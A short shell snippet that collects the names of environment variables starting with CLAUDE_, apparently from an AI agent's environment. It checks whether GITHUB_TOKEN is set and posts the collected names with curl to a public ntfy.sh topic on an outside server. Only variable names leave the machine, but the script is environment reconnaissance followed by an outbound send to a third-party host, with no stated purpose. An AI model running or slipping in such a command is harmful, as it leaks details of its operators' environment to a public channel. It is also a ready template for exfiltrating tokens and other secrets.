vars=$(env | cut -d= -f1 | grep '^CLAUDE_' | tr '\n' ' ')
if [ -z "${GITHUB_TOKEN+x}" ]; then echo "no token configured"; fi
curl -s -d "vars: $vars" https://ntfy.sh/topic
